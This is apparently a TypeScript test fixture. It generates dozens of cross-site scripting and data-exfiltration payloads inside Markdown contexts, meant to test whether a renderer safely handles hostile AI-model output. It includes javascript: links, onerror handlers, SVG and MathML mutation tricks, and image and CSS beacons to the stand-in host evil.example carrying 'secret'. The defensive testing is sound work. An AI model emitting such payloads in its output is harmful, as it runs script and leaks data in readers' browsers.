// What a hostile model would say: known ways to run a script or to send something out, each in the places where
// Markdown may hold it. `evil.example` must never be asked, and `hit()` never be called.

const vectors: Record<string, string> = {
  script: '<script>hit()</script>',
  'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'image with an error': '<img src=x onerror=hit()>',
  'image from elsewhere': '<img src="https://evil.example/?q=secret">',
  'image with sources': '<img srcset="https://evil.example/a.png 1x" sizes="100vw">',
  'image left open': "<img src='https://evil.example/?",
  'image in Markdown': '![x](https://evil.example/pixel.png?q=secret)',
  'image by reference': '![x][r]\n\n[r]: https://evil.example/ref.png',
  'image in a link': '[![x](https://evil.example/in-link.png)](https://evil.example/go)',
  'image of a drawing': '<img src="data:image/svg+xml,<svg onload=hit() xmlns=http://www.w3.org/2000/svg>">',
  picture: '<picture><source srcset="https://evil.example/p.webp"><img alt=x></picture>',
  drawing: '<svg onload=hit()><image href="https://evil.example/i.svg"/></svg>',
  'drawing with a script': '<svg><script>hit()</script></svg>',
  'drawing with animation': '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>',
  'style in a drawing': '<svg><style><img src=x onerror=hit()></style></svg>',
  formula: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  'formula with a link': '<math href="javascript:hit()">x</math>',
  frame: '<iframe src="https://evil.example/f"></iframe>',
  'frame of its own': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  object: '<object data="https://evil.example/o.swf"></object>',
  embed: '<embed src="javascript:hit()">',
  video: '<video src="https://evil.example/v.mp4" poster="https://evil.example/v.png" autoplay onerror=hit()></video>',
  audio: '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  'style sheet': '<link rel=stylesheet href="https://evil.example/s.css">',
  style: '<style>@import "https://evil.example/i.css"; body { background: url(https://evil.example/b.png) }</style>',
  'style of an element': '<p style="background:url(https://evil.example/bg.png);position:fixed;inset:0">x</p>',
  'table background': '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
  base: '<base href="https://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  form: '<form action="https://evil.example/"><button formaction="javascript:hit()">x</button></form>',
  'field that takes the focus': '<input autofocus onfocus=hit()>',
  'details that open': '<details open ontoggle=hit()><summary>x</summary></details>',
  'link with a script': '<a href="javascript:hit()">x</a>',
  'link with a script in entities': '<a href="&#106;avascript&colon;hit()">x</a>',
  'link with a script and a tab': '<a href="java\tscript:hit()">x</a>',
  'link with a script in Markdown': '[x](javascript:hit())',
  'link with a script in Markdown entities': '[x](java&#x73;cript:hit())',
  'link by reference': '[x][j]\n\n[j]: javascript:hit()',
  'link in brackets': '<javascript:hit()>',
  'link to a page of data': '[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0KCk8L3NjcmlwdD4=)',
  'link with a title that breaks out': '[x](https://evil.example/ "a\\" onmouseover=\\"hit()")',
  'link that is reported': '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
  'code with a language that breaks out': '```"><img src=x onerror=hit()>\nx\n```',
  'names that represent ours': '<a id=app name=location class=trouble>x</a><form id=message><input name=value></form>',
  template: '<template><script>hit()</script></template><noscript><p title="</noscript><img src=x onerror=hit()>">',
  'tag in a tag': '<scr<script>ipt>hit()</scr</script>ipt>',
  comment: '<!--><img src=x onerror=hit()>-->',
}

const contexts: Record<string, (vector: string) => string> = {
  alone: (vector) => vector,
  'in a sentence': (vector) => `Here it is: ${vector} and on it goes.`,
  'in a list': (vector) => `- one\n- ${vector}\n- three`,
  'in a quotation': (vector) => `> ${vector}\n>\n> end`,
  'in a table': (vector) => `| a | b |\n|---|---|\n| ${vector.replaceAll('\n', ' ')} | x |`,
  'in a heading': (vector) => `## ${vector}\n\ntext`,
  'in HTML': (vector) => `<div><p>${vector}</p></div>`,
  'behind code that is left open': (vector) => `text\n\n${vector}\n\n\`\`\`js\nlet open`,
}

export interface Payload {
  name: string
  text: string
}

export const payloads: Payload[] = Object.entries(vectors).flatMap(([what, vector]) =>
  Object.entries(contexts).map(([where, inside]) => ({ name: `${what}, ${where}`, text: inside(vector) })),
)
